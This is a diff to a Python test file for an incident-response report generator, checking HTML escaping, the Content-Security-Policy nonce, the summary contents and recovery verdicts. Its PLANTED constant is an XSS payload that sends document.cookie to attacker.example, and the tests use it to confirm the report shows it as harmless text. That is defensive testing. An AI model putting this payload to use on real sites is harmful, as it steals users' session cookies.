@@ -17,23 +17,35 @@ from irkit.evidence.summary import Summary
 PLANTED = "<script>fetch('https://attacker.example/'+document.cookie)</script>"
 
 
+FINDINGS = [{"kind": "lock-root", "subject": "pid 7", "detail": f"idle in transaction: {PLANTED}"},
+            {"kind": "error-spike", "subject": "backend", "detail": "12% fail"}]
+PLAN = [{"action": "terminate-backend", "target": "pid 7", "command": "SELECT pg_terminate_backend(7);",
+         "status": "planned"}]
+NOT_RECOVERED = {"recovered": False, "failed": ["no lock waits: 1 waiting session(s)"]}
+
+
+def _run(tmp_path: Path, recovery: object = NOT_RECOVERED) -> Path:
+    """A run of incident INC-9 whose phases recorded the findings, the plan and (phase 4) ``recovery``."""
+    run = tmp_path / "INC-9" / "20261130T000000Z"
+    run.mkdir(parents=True)
+    for phase, records in ((2, {"findings": FINDINGS}), (3, {"mitigations": PLAN}),
+                           *(((4, {"verdict": recovery}),) if recovery is not None else ())):
+        (run / f"phase-{phase}.json").write_text(json.dumps({"phase": phase, "records": records}))
+    return run
+
+
 def _summary(**changes: object) -> Summary:
     data: dict[str, object] = {
         "incident": "INC-9", "run_id": "20261130T000000Z",
         "phases": [{"phase": 1, "name": "01-detect-and-assess", "notebook": "x", "status": "ok"},
                    {"phase": 2, "name": "02-investigate", "notebook": "y", "status": "failed", "error": "boom"}],
-        "findings": [{"kind": "lock-root", "subject": "pid 7", "detail": f"idle in transaction: {PLANTED}"},
-                     {"kind": "error-spike", "subject": "backend", "detail": "12% fail"}],
-        "mitigations": [{"action": "terminate-backend", "target": "pid 7", "command": "SELECT pg_terminate_backend(7);",
-                         "status": "planned"}],
-        "recovery": {"recovered": False, "failed": ["no lock waits: 1 waiting session(s)"]},
     }
     data.update(changes)
     return Summary.from_dict(data)
 
 
 def test_planted_markup_is_shown_as_text_and_only_the_pages_own_scripts_may_run(tmp_path: Path):
-    page = write_report(tmp_path, _summary(), [], nonce="n0nce").read_text()
+    page = write_report(_run(tmp_path), _summary(), [], nonce="n0nce").read_text()
     assert PLANTED not in page and "&lt;script&gt;fetch(" in page
     assert "script-src 'nonce-n0nce'" in page and "default-src 'none'" in page
     scripts = re.findall(r"<script\b[^>]*>", page)
@@ -41,7 +53,7 @@ def test_planted_markup_is_shown_as_text_and_only_the_pages_own_scripts_may_run(
 
 
 def test_the_summary_comes_first_with_the_cause_the_plan_and_the_verdict(tmp_path: Path):
-    page = write_report(tmp_path, _summary(), []).read_text()
+    page = write_report(_run(tmp_path), _summary(), []).read_text()
     summary = page.split("<section class='summary' id='summary'>", 1)[1].split("</section>", 1)[0]
     assert "<dt>Cause</dt><dd>lock-root pid 7: idle in transaction" in summary  # the first finding, not a symptom
     assert "terminate-backend pid 7 (planned): <code>SELECT pg_terminate_backend(7);</code>" in summary
@@ -56,7 +68,7 @@ def test_the_summary_comes_first_with_the_cause_the_plan_and_the_verdict(tmp_pat
      "UNKNOWN: not measured: p95 latency: Prometheus did not answer"),
 ])
 def test_the_verdict_never_reads_recovered_unless_phase_4_measured_it(tmp_path: Path, recovery: object, said: str):
-    page = write_report(tmp_path, _summary(recovery=recovery), []).read_text()
+    page = write_report(_run(tmp_path, recovery), _summary(), []).read_text()
     assert f">{said}</dd>" in page
 
 
